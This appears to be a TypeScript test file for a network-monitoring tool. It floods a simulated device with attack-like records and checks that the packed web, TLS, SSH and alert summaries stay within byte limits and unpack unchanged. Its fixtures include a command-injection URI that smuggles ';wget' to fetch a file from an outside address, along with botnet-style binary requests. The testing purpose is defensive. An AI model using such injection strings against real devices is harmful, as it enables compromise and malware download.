import { Encoder } from 'cbor-x'
import { expect, test } from 'vitest'
import { newFacts, type DeviceFacts } from '../facts/facts'
import { aDevice, takeRecord } from '@/lib/testing/a-device'
import { DEVICE_IP } from '@/lib/testing/some-flows'
import { anAlert, anSshSession, aRequest, aTlsSession, aTransfer } from '@/lib/testing/some-records'
import { packAlerts, unpackAlerts } from './pack-alerts'
import { packSsh, unpackSsh } from './pack-ssh'
import { packTls, unpackTls } from './pack-tls'
import { packWeb, unpackWeb } from './pack-web'

const encoder = new Encoder({ useRecords: false, variableMapSize: true, tagUint8Array: false })
const sizeOf = (packed: unknown): number => encoder.encode(packed).length

/** Longer than what parsers let through. */
const HUGE = 'x'.repeat(640)
const ipv6Of = (index: number): string =>
  `2a00:1450:4001:81b:ffff:ffff:${(index >> 8).toString(16)}:${(0x1000 + index).toString(16)}`
/** Six days apart in all, so that times take the bytes they take in the field. */
const afterOf = (index: number): number => index * 260

const outsideOf = (n: number) => ({ to: ipv6Of(n % 40), host: '', port: 60_000 + (n % 40) })
const injected = (n: number) => `/${String(n % 7)}?x=;wget http://[${ipv6Of(n)}]/${HUGE.slice(0, 400)}`

/** Everything a stranger and a taken-over device can send at once. */
const flooded = (): DeviceFacts => {
  const facts = newFacts()
  for (let n = 0; n < 2_000; n += 1) {
    const after = afterOf(n)
    const toDevice = { from: ipv6Of(n % 40), to: DEVICE_IP, port: 60_000 }
    const records = [
      aRequest({ after, ...outsideOf(n), uri: `/${String(n % 3)}${HUGE}.arm7`, userAgent: 'BusyBox', status: 200 }),
      aRequest({ after, ...outsideOf(n), uri: injected(n), host: `[${ipv6Of(n % 40)}]`, status: 401 }),
      aRequest({ after, ...toDevice, uri: injected(n), status: 401 }),
      aRequest({ after, ...toDevice, uri: injected(n), status: n % 40 === 7 ? 200 : 403 }),
      ...[0, 1, 2, 3, 4, 5].map((p) =>
        aRequest({ after, to: ipv6Of(n), host: `${String(n)}.example.com`, uri: `/p${String(p)}${HUGE}` }),
      ),
      aTransfer({ after, to: ipv6Of(n % 40), name: `${HUGE}.mpsl`, type: 'application/x-executable' }),
      aTlsSession({ after, ...outsideOf(n), serverName: '', selfSigned: true, version: 'SSLv3', subject: HUGE }),
      aTlsSession({ after, ...toDevice, version: 'SSLv3', issuer: HUGE }),
      anSshSession({ after, ...outsideOf(n), success: false, client: HUGE }),
      anSshSession({ after, ...toDevice, success: false }),
      anSshSession({ after, ...outsideOf(n), success: null }),
      anAlert({ after, ...outsideOf(n), message: `${String(n)}${HUGE}`, category: 'a network trojan was detected' }),
      anAlert({ after, ...outsideOf(n), message: `${String(n)}${HUGE}`, category: 'web application attack' }),
      anAlert({ after, ...outsideOf(n), message: HUGE, category: 'crypto currency mining activity detected' }),
      anAlert({ after, ...outsideOf(n), message: HUGE, category: 'misc attack' }),
      anAlert({ after, ...outsideOf(n), message: `ET CHAT IRC ${HUGE}` }),
      anAlert({ after, ...toDevice, message: HUGE, category: 'web application attack' }),
      anAlert({ after, ...toDevice, engine: 'zeek', signature: 'SSH::Login_By_Password_Guesser', category: 'notice' }),
      aRequest({ after: after + 1, to: ipv6Of(n % 40), host: '' }),
    ]
    for (const record of records) takeRecord(facts, record)
  }
  return facts
}

test('whatever is sent, each part keeps within its bytes', () => {
  const { traffic, clock } = flooded()
  const base = clock ?? 0
  const { web, secure, shells, alerts } = traffic
  if (web === null || secure === null || shells === null || alerts === null) throw new Error('a part is missing')
  expect(sizeOf(packWeb(web, base))).toBeLessThanOrEqual(2_000)
  expect(sizeOf(packTls(secure, base))).toBeLessThanOrEqual(500)
  expect(sizeOf(packSsh(shells, base))).toBeLessThanOrEqual(600)
  expect(sizeOf(packAlerts(alerts, base))).toBeLessThanOrEqual(900)
  expect(unpackWeb(packWeb(web, base), base)).toEqual(web)
  expect(unpackTls(packTls(secure, base), base)).toEqual(secure)
  expect(unpackSsh(packSsh(shells, base), base)).toEqual(shells)
  expect(unpackAlerts(packAlerts(alerts, base), base)).toEqual(alerts)
})

test('facts of ordinary records come back the same', () => {
  const { traffic, clock } = aDevice([
    aRequest(),
    aRequest({ after: 5, host: '203.0.113.9', uri: '/bins/arm7', userAgent: 'Wget/1.21' }),
    aTlsSession({ after: 6, serverName: '', selfSigned: true, version: '1.0' }),
    anSshSession({ after: 7, success: false }),
    anAlert({ after: 8, category: 'a network trojan was detected' }),
  ])
  const base = clock ?? 0
  const { web, secure, shells, alerts } = traffic
  if (web === null || secure === null || shells === null || alerts === null) throw new Error('a part is missing')
  expect(unpackWeb(packWeb(web, base), base)).toEqual(web)
  expect(unpackTls(packTls(secure, base), base)).toEqual(secure)
  expect(unpackSsh(packSsh(shells, base), base)).toEqual(shells)
  expect(unpackAlerts(packAlerts(alerts, base), base)).toEqual(alerts)
})
